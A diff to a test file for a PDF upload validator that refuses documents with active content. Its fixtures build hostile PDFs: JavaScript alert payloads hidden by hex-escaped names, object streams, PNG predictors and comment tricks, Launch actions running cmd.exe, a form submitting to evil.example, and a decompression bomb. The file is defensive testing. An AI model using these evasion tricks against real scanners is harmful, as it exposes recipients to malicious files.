@@ -1,4 +1,5 @@
 import { deflateSync } from "node:zlib";
+import { pdfOf } from "@/tests/support/samples/pdf";
 import { isPdf, refuseActivePdf } from "./pdfs";
 
 const pdf = (...parts: (string | Buffer)[]) =>
@@ -12,19 +13,34 @@ const stream = (dictionary: string, content: Buffer | string) =>
 const packed = (objects: string, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") =>
   stream(dictionary, deflateSync(objects));
 
+/** As the PNG format predicts each byte from the one above it. */
+function predicted(text: string, columns: number): Buffer {
+  const rows = text.padEnd(Math.ceil(text.length / columns) * columns).match(new RegExp(`.{${columns}}`, "gs")) ?? [];
+  return Buffer.concat(
+    rows.map((row, at) => {
+      const above = Buffer.from(rows[at - 1] ?? "\0".repeat(columns), "latin1");
+      const difference = Buffer.from(row, "latin1").map((byte, index) => (byte - (above[index] ?? 0)) & 255);
+      return Buffer.concat([Buffer.from([2]), difference]);
+    }),
+  );
+}
+
+const packedScript = "1 0 <</S/JavaScript/JS(app.alert(1))>>";
+
 const script = "1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>\nendobj";
 
 test.each([
   ["a script that runs when it is opened", pdf(script)],
   ["a name written by numbers", pdf(script.replace("JavaScript", "J#61vaScrip#74"))],
   ["a script among packed objects", pdf(packed(`1 0 <</S/JavaScript/JS(app.alert(1))>>`))],
+  ["a script behind a comment that looks like a stream", pdf("%stream\n", packed(packedScript))],
   ["packed objects that do not say so", pdf(packed("1 0 <</S /Launch /F (cmd.exe)>>", "/N 1 /First 4"))],
   ["a program", pdf("1 0 obj\n<</A <</S /Launch /F (cmd.exe)>> >>\nendobj")],
   ["another file", pdf("1 0 obj\n<</Names <</EmbeddedFiles 2 0 R>> >>\nendobj")],
   ["a form of its own", pdf("1 0 obj\n<</AcroForm <</XFA 2 0 R>> >>\nendobj")],
   ["a form that sends itself", pdf("1 0 obj\n<</A<</S/SubmitForm/F(https://evil.example)>>>>\nendobj")],
 ])("%s is refused with a sentence that says what to do", async (_, bytes) => {
-  await expect(refuseActivePdf(bytes)).rejects.toMatchObject({
+  await expect(refuseActivePdf(bytes, "one")).rejects.toMatchObject({
     code: "unsupported_type",
     message: expect.stringMatching(/^This PDF contains .+\. Print it to a new PDF and attach that one\.$/) as string,
   });
@@ -37,9 +53,34 @@ test.each([
     pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", "789c")),
     "compressed",
   ],
+  [
+    "packed with a predictor",
+    pdf(
+      stream(
+        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 16>>",
+        deflateSync(predicted(packedScript, 16)),
+      ),
+    ),
+    "compressed",
+  ],
+  [
+    "packed with a predictor that is named first",
+    pdf(
+      stream(
+        "/DecodeParms<</Predictor 12/Columns 16>>/Filter/FlateDecode/First 4/N 1/Type/ObjStm",
+        deflateSync(predicted(packedScript, 16)),
+      ),
+    ),
+    "compressed",
+  ],
+  [
+    "packed behind a comment",
+    pdf(stream("/Type/ObjStm/N 1/First 4%stream\n/Filter/FlateDecode", deflateSync(packedScript))),
+    "compressed",
+  ],
   ["a bomb", pdf(packed(" ".repeat(65 * 1024 * 1024))), "compressed"],
 ])("what nobody can look into is refused: %s", async (_, bytes, why) => {
-  await expect(refuseActivePdf(bytes)).rejects.toMatchObject({
+  await expect(refuseActivePdf(bytes, "one")).rejects.toMatchObject({
     code: "unsupported_type",
     message: expect.stringContaining(why) as string,
   });
@@ -57,10 +98,33 @@ test.each([
     pdf("2 0 obj\n<</First 3 0 R>>\nendobj\n", stream("/Filter /DCTDecode", "\u00ff\u00d8")),
   ],
 ])("%s are no reason", async (_, bytes) => {
-  await expect(refuseActivePdf(bytes)).resolves.toBeUndefined();
+  await expect(refuseActivePdf(bytes, "one")).resolves.toBeUndefined();
 });
 
 test("a PDF is one from its first byte", () => {
   const answers = ["%PDF-1.4\n", "%PDF-2.0\n", " %PDF-1.4\n", "%PDF-9.9", ""].map((head) => isPdf(Buffer.from(head)));
   expect(answers).toEqual([true, true, false, false, false]);
+});
+
+test("a script that only a reader finds is found by reading", async () => {
+  const names = "<< /Names << /J#61vaScript << /Names [(a) << /S /J#61vaScript /JS (app.alert(1)) >>] >> >> >>";
+  const hidden = Buffer.from(
+    pdfOf([["Rate card"]])
+      .toString("latin1")
+      .replace("/Type /Catalog", `/Type /Catalog ${names}`),
+  );
+  await expect(refuseActivePdf(hidden, "one")).rejects.toMatchObject({ code: "unsupported_type" });
+});
+
+test("an ordinary document is no reason either, and is checked in moments", async () => {
+  await expect(
+    refuseActivePdf(pdfOf(Array.from({ length: 200 }, () => ["Rate card"])), "one"),
+  ).resolves.toBeUndefined();
+});
+
+test("names written by numbers, by the million, take no longer than any others", async () => {
+  const bytes = pdf(packed("#41".repeat(20_000_000)));
+  const began = performance.now();
+  await expect(refuseActivePdf(bytes, "one")).resolves.toBeUndefined();
+  expect(performance.now() - began).toBeLessThan(5000);
 });
